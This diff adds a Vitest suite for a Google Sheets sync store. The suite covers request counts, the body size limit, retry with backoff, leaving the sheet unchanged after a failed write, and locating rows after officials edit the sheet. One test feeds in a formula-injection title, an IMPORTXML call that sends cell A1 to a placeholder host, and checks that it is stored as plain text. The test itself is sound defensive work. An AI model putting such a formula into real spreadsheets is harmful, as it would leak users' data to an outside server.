@@ -1,0 +1,130 @@
+/**
+ * The Sheets store under the API's limits: constant request counts whatever the
+ * number of rows, 2 MB bodies, 429/5xx retried with backoff, a failed write
+ * leaving the sheet as it was, text never turned into formulas, rows found by
+ * identity after officials insert rows.
+ */
+import { describe, expect, it } from 'vitest';
+import { TASKS_TAB, type Row } from '../../core/index';
+import { sampleTables } from '../../sync/catalog/sample';
+import { CchcError } from '../../sync/errors';
+import { manyTasks } from '../fixtures/many-tasks';
+import { useSheetsEmulator, type EmulatedSheets } from './emulated-sheet';
+
+const emulated = useSheetsEmulator();
+const TWO_MB = 2 * 1024 * 1024;
+
+async function sheetWith(sheets: EmulatedSheets, tasks: Row[]): Promise<string> {
+  const id = sheets.emu.createSpreadsheet('CCHC');
+  const tables = await sampleTables();
+  await sheets.store(id).create({ ...tables, tasks });
+  sheets.emu.resetCounts();
+  return id;
+}
+
+describe('Sheets store limits', () => {
+  it('a push of 1 or of 5,000 tasks takes the same requests: one read, one write', async () => {
+    const sample = (await sampleTables())['tasks']!;
+    const counts = [];
+    for (const size of [1, 5_000]) {
+      const sheets = await emulated();
+      const tasks = manyTasks(sample, size);
+      const id = await sheetWith(sheets, tasks);
+      const store = sheets.store(id);
+      const read = await store.read();
+      expect(read['tasks']).toHaveLength(size);
+      const changed = tasks.map((t, i) => (i === size - 1 ? { ...t, note: 'Cập nhật tuần 47', progress: 37 } : t));
+      const result = await store.apply({ tasks: changed }, new Map([['tasks', new Map(tasks.map((t) => [String(t['id']), t]))]]));
+      expect(result.plan.updatedCells).toBe(2);
+      counts.push(sheets.emu.counts());
+    }
+    expect(counts[0]).toMatchObject({ reads: 2, writes: 1 });
+    expect(counts[1]).toEqual(counts[0]);
+  }, 120_000);
+
+  it('the first push of 5,000 tasks fits the 2 MB body limit in a few whole-row batches', async () => {
+    const sheets = await emulated();
+    const sample = (await sampleTables())['tasks']!;
+    const id = sheets.emu.createSpreadsheet('CCHC');
+    const result = await sheets.store(id).apply({ tasks: manyTasks(sample, 5_000) }, new Map());
+    const writes = sheets.emu.requestLog.filter((r) => r.kind === 'write');
+    expect(writes.length).toBe(result.plan.batches.length);
+    expect(writes.length).toBeLessThanOrEqual(5);
+    for (const w of writes) expect(w.bodyBytes).toBeLessThan(TWO_MB);
+    expect(writes.every((w) => w.status === 200)).toBe(true);
+    expect((await sheets.store(id).read())['tasks']).toHaveLength(5_000);
+  }, 120_000);
+
+  it('retries 429 and 503 with backoff, honouring Retry-After, then writes once', async () => {
+    const sheets = await emulated();
+    const sample = (await sampleTables())['tasks']!;
+    const id = await sheetWith(sheets, sample.slice(0, 3));
+    sheets.emu.injectFailures([
+      { match: { operation: 'spreadsheets.get' }, status: 503, times: 1 },
+      { match: { operation: 'spreadsheets.batchUpdate' }, status: 429, times: 2, retryAfterSeconds: 7 },
+    ]);
+    const store = sheets.store(id);
+    await store.read();
+    const outcome = await store.write({ tasks: sample.slice(0, 4) });
+    expect(outcome.conflicts).toEqual([]);
+    expect(sheets.slept[0]).toBeGreaterThanOrEqual(1000); // 2^0 s + jitter
+    expect(sheets.slept[0]).toBeLessThan(2000);
+    expect(sheets.slept.slice(1)).toEqual([7000, 7000]);
+    const statuses = sheets.emu.requestLog.filter((r) => r.kind === 'write').map((r) => r.status);
+    expect(statuses).toEqual([429, 429, 200]);
+    expect((await store.read())['tasks']).toHaveLength(4);
+  });
+
+  it('gives up after the last retry with a Vietnamese message, leaving the sheet exactly as it was', async () => {
+    const sheets = await emulated();
+    const sample = (await sampleTables())['tasks']!;
+    const id = await sheetWith(sheets, sample.slice(0, 5));
+    const before = structuredClone(sheets.emu.getSpreadsheet(id));
+    sheets.emu.injectFailures([{ match: { operation: 'spreadsheets.batchUpdate' }, status: 500, times: 100 }]);
+    const store = sheets.store(id);
+    const tables = await store.read();
+    const edited = tables['tasks']!.map((t) => ({ ...t, progress: 50 }));
+    const error = await store.write({ tasks: [...edited, ...sample.slice(5, 9)] }).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(CchcError);
+    expect((error as CchcError).code).toBe('SHEETS_UNAVAILABLE');
+    expect((error as CchcError).messageVi).toContain('Chưa ghi gì thêm vào bảng tính');
+    expect(sheets.slept.length).toBe(5);
+    expect(sheets.emu.getSpreadsheet(id)).toEqual(before);
+  });
+
+  it('writes text as text: a title starting with "=" never becomes a formula', async () => {
+    const sheets = await emulated();
+    const sample = (await sampleTables())['tasks']!;
+    const id = await sheetWith(sheets, []);
+    const evil = { ...sample[0]!, title: '=IMPORTXML("http://x.example/?"&A1,"//a")', note: '+1+1' };
+    await sheets.store(id).apply({ tasks: [evil] }, new Map());
+    const formulas = sheets.emu.getValues(id, `'${TASKS_TAB.name}'!A2:Q2`, { valueRenderOption: 'FORMULA' })[0]!;
+    expect(formulas).toContain('=IMPORTXML("http://x.example/?"&A1,"//a")');
+    const cell = sheets.emu.getSpreadsheet(id).sheets.find((s) => s.properties.title === TASKS_TAB.name)!.rows[1]!;
+    expect(cell.filter((c) => c?.userEnteredValue && 'formulaValue' in (c.userEnteredValue as object))).toEqual([]);
+  });
+
+  it('finds rows by id after officials insert and move rows, and by row metadata after an id cell is cleared', async () => {
+    const sheets = await emulated();
+    const sample = (await sampleTables())['tasks']!.slice(0, 4);
+    const id = await sheetWith(sheets, sample);
+    const sheetId = sheets.emu.getSpreadsheet(id).sheets.find((s) => s.properties.title === TASKS_TAB.name)!.properties.sheetId;
+    sheets.emu.batchUpdate(id, [
+      { insertDimension: { range: { sheetId, dimension: 'ROWS', startIndex: 1, endIndex: 3 } } },
+      { moveDimension: { source: { sheetId, dimension: 'ROWS', startIndex: 6, endIndex: 7 }, destinationIndex: 3 } },
+    ]);
+    sheets.emu.setValues(id, `'${TASKS_TAB.name}'!A2`, [['Dòng cán bộ tự thêm']]);
+    const store = sheets.store(id);
+    const tables = await store.read();
+    const lastId = String(sample[3]!['id']);
+    const moved = tables['tasks']!.find((t) => t['id'] === lastId)!;
+    expect(moved['_row']).toBe(4);
+    // Clear the id cell of the moved task: its row metadata still says which task it is.
+    sheets.emu.setValues(id, `'${TASKS_TAB.name}'!A4`, [['']]);
+    await store.write({ tasks: sample.map((t) => (t['id'] === lastId ? { ...t, note: 'cập nhật' } : t)) });
+    const row = sheets.emu.getValues(id, `'${TASKS_TAB.name}'!A4:Q4`)[0]!;
+    expect(row[0] ?? '').toBe('');
+    expect(row[16]).toBe('cập nhật');
+    expect(sheets.emu.getValues(id, `'${TASKS_TAB.name}'!A2`)).toEqual([['Dòng cán bộ tự thêm']]);
+  });
+});
